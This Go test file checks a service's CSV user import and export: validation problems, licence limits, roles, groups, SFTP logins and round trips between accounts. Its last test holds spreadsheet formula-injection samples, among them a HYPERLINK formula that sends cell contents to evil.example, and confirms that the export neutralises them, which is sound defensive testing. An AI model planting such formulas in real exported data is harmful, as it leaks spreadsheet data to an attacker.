package domain_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/jmoiron/sqlx"

	"github.com/skiffhq/skiff/tenant"
	"github.com/skiffhq/skiff/tenant/outbox"
	"github.com/skiffhq/skiff/tenant/people"
)

// liveUsers counts the account's live users, past row-level security.
func (f *moduleFixture) liveUsers(accountID string) int {
	f.t.Helper()
	var n int
	if err := f.svc.DB.X.Get(&n, `SELECT count(*) FROM users WHERE account_id = $1 AND deleted_at IS NULL`, accountID); err != nil {
		f.t.Fatal(err)
	}
	return n
}

// freeLicences sets the account's licences so that exactly free are free.
func (f *moduleFixture) freeLicences(free int) {
	f.t.Helper()
	l, err := f.svc.SFTP.SFTPLicences(f.ownerCtx, f.account.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	if _, err := f.svc.SFTP.SetSFTPLicences(f.staff, f.account.ID, l.Used+free); err != nil {
		f.t.Fatal(err)
	}
}

func importRows(n int, row func(i int) string) string {
	var b strings.Builder
	b.WriteString("email,name,role,group,sftp,custom login\n")
	for i := range n {
		b.WriteString(row(i) + "\n")
	}
	return b.String()
}

func TestImportUsersWithBadRowsCreatesNothing(t *testing.T) {
	f := newModuleFixture(t)
	before := f.liveUsers(f.account.ID)
	csv := importRows(10, func(i int) string {
		switch i {
		case 2: // line 4
			return "not-an-email,Bad Email,USER,,no,"
		case 7: // line 9
			return fmt.Sprintf("u%d@acme.test,Bad Role,CAPTAIN,,no,", i)
		}
		return fmt.Sprintf("u%d@acme.test,User %d,USER,,no,", i, i)
	})
	res, err := f.svc.People.ImportUsers(f.ownerCtx, csv)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Users) != 0 || len(res.Problems) != 2 {
		t.Fatalf("import = %d users, problems %+v; want none and 2 problems", len(res.Users), res.Problems)
	}
	if p := res.Problems[0]; p.Line != 4 || p.Column != "email" || !strings.HasPrefix(p.String(), "line 4: email: ") {
		t.Fatalf("first problem = %+v (%s)", p, p)
	}
	if p := res.Problems[1]; p.Line != 9 || p.Column != "role" {
		t.Fatalf("second problem = %+v", p)
	}
	if got := f.liveUsers(f.account.ID); got != before {
		t.Fatalf("users after a refused import = %d, want %d", got, before)
	}
	if n := len(f.emailsTo(outbox.EmailInvitation, "u0@acme.test")); n != 0 {
		t.Fatalf("a refused import sent %d invitations", n)
	}
}

func TestImportUsersDatabaseProblemsNameTheirLines(t *testing.T) {
	f := newModuleFixture(t)
	f.newUser("taken@acme.test", tenant.RoleUser)
	before := f.liveUsers(f.account.ID)
	csv := "email,name,group\nnew@acme.test,New,\ntaken@acme.test,Taken,\nother@acme.test,Other,No Such Group\n"
	res, err := f.svc.People.ImportUsers(f.ownerCtx, csv)
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, p := range res.Problems {
		lines = append(lines, p.String())
	}
	if len(res.Users) != 0 || len(lines) != 2 || !strings.HasPrefix(lines[0], "line 4: group: ") || !strings.HasPrefix(lines[1], "line 3: email: ") {
		t.Fatalf("import = %d users, problems %q", len(res.Users), lines)
	}
	if got := f.liveUsers(f.account.ID); got != before {
		t.Fatalf("users after a refused import = %d, want %d", got, before)
	}
}

func TestImportUsersNeedingMoreLicencesThanFree(t *testing.T) {
	f := newModuleFixture(t)
	// Before the module starts, SFTP rows are refused as a whole.
	res, err := f.svc.People.ImportUsers(f.ownerCtx, "email,name,sftp\nx@acme.test,X,yes\n")
	if err != nil || len(res.Users) != 0 || len(res.Problems) != 1 || res.Problems[0].Code != tenant.EConflict ||
		!strings.Contains(res.Problems[0].Message, "not active") {
		t.Fatalf("import with the module off = %+v, %v", res, err)
	}
	f.startTrial()
	f.freeLicences(5)
	before := f.liveUsers(f.account.ID)
	csv := importRows(8, func(i int) string {
		return fmt.Sprintf("s%d@acme.test,S %d,USER,,%v,", i, i, i < 6)
	})
	res, err = f.svc.People.ImportUsers(f.ownerCtx, csv)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Users) != 0 || len(res.Problems) != 1 {
		t.Fatalf("import = %d users, problems %+v", len(res.Users), res.Problems)
	}
	p := res.Problems[0]
	if p.Code != tenant.ELimit || p.Line != 0 || !strings.Contains(p.Message, "for 6 users") || !strings.Contains(p.Message, "only 5 of") {
		t.Fatalf("licence problem = %+v", p)
	}
	if got := f.liveUsers(f.account.ID); got != before {
		t.Fatalf("users after a refused import = %d, want %d", got, before)
	}
	// With 6 free the same file goes through.
	f.freeLicences(6)
	if res, err = f.svc.People.ImportUsers(f.ownerCtx, csv); err != nil || len(res.Problems) != 0 || len(res.Users) != 8 {
		t.Fatalf("import with 6 free = %+v, %v", res, err)
	}
}

func TestImportUsersCreatesRolesGroupsSFTPAndInvitations(t *testing.T) {
	f := newModuleFixture(t)
	f.startTrial()
	csv := "\uFEFFEmail,Name,Role,Group,SFTP,Custom_Login,Password\n" +
		"ann@acme.test,\"Smith, Ann\",admin,jailed users,yes,,\n" +
		"bob@acme.test,\"Bob \"\"B\"\" Jones\",,Associate,false,,\n" +
		"cat@acme.test,Cat,OWNER,,1,,a long enough passphrase\n"
	res, err := f.svc.People.ImportUsers(f.ownerCtx, csv)
	if err != nil || len(res.Problems) != 0 {
		t.Fatalf("import: %v %+v", err, res)
	}
	if len(res.Users) != 3 {
		t.Fatalf("import created %d users", len(res.Users))
	}
	ann, bob, cat := res.Users[0], res.Users[1], res.Users[2]
	if ann.Name != "Smith, Ann" || ann.Role != tenant.RoleAdmin || !ann.SFTPEnabled {
		t.Fatalf("ann = %+v", ann)
	}
	if bob.Name != `Bob "B" Jones` || bob.Role != tenant.RoleUser || bob.SFTPEnabled {
		t.Fatalf("bob = %+v", bob)
	}
	if cat.Role != tenant.RoleOwner || !cat.SFTPEnabled || cat.PasswordHash == nil {
		t.Fatalf("cat = %+v", cat)
	}
	groups, err := f.svc.Sharing.GroupsOfUsers(f.ownerCtx, f.account.ID, []string{ann.ID, bob.ID, cat.ID})
	if err != nil {
		t.Fatal(err)
	}
	if groups[ann.ID].Name != "Jailed Users" || groups[bob.ID].Name != "Associate" || groups[cat.ID].Name != "Pro" {
		t.Fatalf("groups = %s, %s, %s", groups[ann.ID].Name, groups[bob.ID].Name, groups[cat.ID].Name)
	}
	for _, u := range []*tenant.User{ann, bob} {
		if n := len(f.emailsTo(outbox.EmailInvitation, u.Email)); n != 1 {
			t.Fatalf("%s got %d invitations, want 1", u.Email, n)
		}
	}
	if n := len(f.emailsTo(outbox.EmailInvitation, cat.Email)); n != 0 {
		t.Fatalf("cat, imported with a password, got %d invitations", n)
	}
	for _, u := range []*tenant.User{ann, cat} {
		if n := len(f.emailsTo(outbox.EmailSFTPEnabled, u.Email)); n != 1 {
			t.Fatalf("%s got %d SFTP emails, want 1", u.Email, n)
		}
	}

	// An administrator may not import owners.
	admin := f.as(ann)
	res, err = f.svc.People.ImportUsers(admin, "email,name,role\nzed@acme.test,Zed,owner\n")
	if err != nil || len(res.Problems) != 1 || res.Problems[0].Column != "role" {
		t.Fatalf("admin importing an owner: %v %+v", err, res)
	}
	// A plain user may not import at all.
	_, err = f.svc.People.ImportUsers(f.as(bob), "email,name\nzed@acme.test,Zed\n")
	f.wantCode(err, tenant.EForbidden, "user importing")
}

func TestImportUsersFormatProblems(t *testing.T) {
	f := newModuleFixture(t)
	for _, tc := range []struct{ csv, want string }{
		{"", "the file is empty"},
		{"name\nx\n", `no "email" column`},
		{"email,name,shoe\n", `unknown column "shoe"`},
		{"email,name\na@acme.test,\"unterminated\n", "not valid CSV"},
		{"email,name\na@acme.test,Caf\xe9\n", "line 2: the file is not valid UTF-8"},
		{"email,name\n" + strings.Repeat("x", people.MaxImportBytes), "at most"},
		{"email,name\n", "no users"},
		{"email,name,sftp,custom login\na@acme.test,A,maybe,\nb@acme.test,B,no,bee\nc@acme.test,C\n",
			`line 2: sftp: "maybe" is not a yes or no; use true or false; line 3: custom login: a custom login needs sftp set to true; line 4: the row has 2 fields but the header has 4`},
		{"email,name\na@acme.test,A\nA@acme.test,A again\n", "line 3: email: A@acme.test is also on line 2"},
	} {
		res, err := f.svc.People.ImportUsers(f.ownerCtx, tc.csv)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, p := range res.Problems {
			got = append(got, p.String())
		}
		if len(res.Users) != 0 || !strings.Contains(strings.Join(got, "; "), tc.want) {
			t.Errorf("import of %.40q: problems %q, want %q", tc.csv, got, tc.want)
		}
	}
	// A header of thousands of columns is one problem, not one per column
	// (which answered megabytes, cut as RESPONSE_TOO_LARGE).
	wide := "email,name," + strings.Repeat("x,", 80000) + "y\n"
	if res, err := f.svc.People.ImportUsers(f.ownerCtx, wide); err != nil || len(res.Problems) != 1 ||
		!strings.Contains(res.Problems[0].Message, "the header row has 80003 columns") {
		t.Errorf("a header of 80003 columns: %v, %d problems, the first %+v", err, len(res.Problems), res.Problems[0])
	}
	var b strings.Builder
	b.WriteString("email,name\n")
	for i := range people.MaxImportRows + 1 {
		fmt.Fprintf(&b, "u%d@acme.test,U\n", i)
	}
	res, err := f.svc.People.ImportUsers(f.ownerCtx, b.String())
	if err != nil || len(res.Problems) != 1 || !strings.Contains(res.Problems[0].Message, "more than 1000 users") {
		t.Fatalf("too many rows: %v %+v", err, res.Problems)
	}
}

func TestUsersCSVRoundTrips(t *testing.T) {
	f := newModuleFixture(t)
	f.startTrial()
	csv := "email,name,role,group,sftp\nann@acme.test,\"Smith, Ann\",ADMIN,Jailed Users,true\nbob@acme.test,Bob,USER,Associate,false\n"
	if res, err := f.svc.People.ImportUsers(f.ownerCtx, csv); err != nil || len(res.Problems) != 0 {
		t.Fatalf("import: %v %+v", err, res)
	}
	out, err := f.svc.People.UsersCSV(f.ownerCtx, f.account.ID)
	if err != nil {
		t.Fatal(err)
	}
	want := "email,name,role,group,sftp,custom login\n" +
		"bob@acme.test,Bob,USER,Associate,false,\n" +
		"olive@acme.test,Owner of Acme,OWNER,Pro,"
	if !strings.HasPrefix(out, want) || !strings.Contains(out, "ann@acme.test,\"Smith, Ann\",ADMIN,Jailed Users,true,\n") {
		t.Fatalf("export =\n%s", out)
	}
	if _, err := f.svc.People.UsersCSV(f.as(f.newUser("plain@acme.test", tenant.RoleUser)), f.account.ID); tenant.ErrorCode(err) != tenant.EForbidden {
		t.Fatalf("a plain user's export: %v", err)
	}

	// Into another account: emails are unique across Skiff (live users),
	// so the file moves to other addresses; the owner comes back as an
	// owner there too, with everyone else as they were. Beta's owner has
	// SFTP from starting the trial.
	other, otherOwner := f.newAccount("Beta", "bea@beta.test")
	moved := strings.ReplaceAll(out, "@acme.test", "@beta.test")
	if _, err := f.svc.SFTP.StartSFTPTrial(f.as(otherOwner)); err != nil {
		t.Fatal(err)
	}
	res, err := f.svc.People.ImportUsers(f.as(otherOwner), moved)
	if err != nil || len(res.Problems) != 0 {
		t.Fatalf("import into Beta: %v %+v", err, res.Problems)
	}
	back, err := f.svc.People.UsersCSV(f.as(otherOwner), other.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Replace(back, "bea@beta.test,Owner of Beta,OWNER,Pro,true,\n", "", 1); got != moved {
		t.Fatalf("round trip:\n%s\nwant (plus Beta's owner):\n%s", back, moved)
	}
}

func TestImportUsersCustomLogins(t *testing.T) {
	f := newDedicatedFixture(t)
	f.activate(10)
	// Without a dedicated IP a custom login is refused, naming its line.
	csv := "email,name,sftp,custom login\nann@acme.test,Ann,yes,ann.backup\nbob@acme.test,Bob,yes,\n"
	res, err := f.svc.People.ImportUsers(f.ownerCtx, csv)
	if err != nil || len(res.Users) != 0 || len(res.Problems) != 1 ||
		!strings.HasPrefix(res.Problems[0].String(), "line 2: custom login: custom SFTP logins work only on a dedicated IP") {
		t.Fatalf("import without a dedicated IP = %+v, %v", res, err)
	}
	f.provision(f.account.ID, "")
	if res, err = f.svc.People.ImportUsers(f.ownerCtx, csv); err != nil || len(res.Problems) != 0 {
		t.Fatalf("import = %+v, %v", res, err)
	}
	c, err := f.svc.SFTP.SFTPCredentials(f.ownerCtx, res.Users[0].ID)
	if err != nil || c.CustomLogin != "ann.backup" {
		t.Fatalf("ann's credentials = %+v, %v", c, err)
	}
	out, err := f.svc.People.UsersCSV(f.ownerCtx, f.account.ID)
	if err != nil || !strings.Contains(out, "\nann@acme.test,Ann,USER,Pro,true,ann.backup\n") {
		t.Fatalf("export = %q, %v", out, err)
	}
}

// A name or email a spreadsheet would run as a formula (a user chooses
// their own name) is exported with a leading apostrophe, which spreadsheets
// show as text, and the import takes the apostrophe off again, so the file
// still round-trips.
func TestUsersCSVEscapesFormulas(t *testing.T) {
	f := newModuleFixture(t)
	for _, in := range []people.CreateUserInput{
		{Email: "eve@acme.test", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{Email: "=cmd@acme.test", Name: "@SUM(A1:A9)"},
		{Email: "+plus@acme.test", Name: "+1"},
		{Email: "minus@acme.test", Name: "-1"},
	} {
		if _, err := f.svc.People.CreateUser(f.ownerCtx, in); err != nil {
			t.Fatal(err)
		}
	}
	out, err := f.svc.People.UsersCSV(f.ownerCtx, f.account.ID)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",", // quoted for the comma
		"\n'=cmd@acme.test,'@SUM(A1:A9),", "\n'+plus@acme.test,'+1,", "\nminus@acme.test,'-1,",
	} {
		if !strings.Contains(strings.Replace(out, "eve@acme.test,", "", 1), want) {
			t.Errorf("export has no %q:\n%s", want, out)
		}
	}
	other, otherOwner := f.newAccount("Beta", "bea@beta.test")
	moved := strings.ReplaceAll(out, "@acme.test", "@beta.test")
	if res, err := f.svc.People.ImportUsers(f.as(otherOwner), moved); err != nil || len(res.Problems) != 0 {
		t.Fatalf("import into Beta: %v %+v", err, res)
	}
	back, err := f.svc.People.UsersCSV(f.as(otherOwner), other.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Replace(back, "bea@beta.test,Owner of Beta,OWNER,Pro,false,\n", "", 1); got != moved {
		t.Fatalf("round trip:\n%s\nwant (plus Beta's owner):\n%s", back, moved)
	}
	var rows []string
	err = f.svc.DB.InAccount(context.Background(), other.ID, func(tx *sqlx.Tx) error {
		return tx.Select(&rows, `SELECT email || ' ' || name FROM users WHERE account_id = $1`, other.ID)
	})
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, r := range rows {
		names[r] = true
	}
	for _, want := range []string{`eve@beta.test =HYPERLINK("http://evil.example/?"&A1,"Click")`, "=cmd@beta.test @SUM(A1:A9)", "+plus@beta.test +1", "minus@beta.test -1"} {
		if !names[want] {
			t.Errorf("imported users %v: no %q", names, want)
		}
	}
}
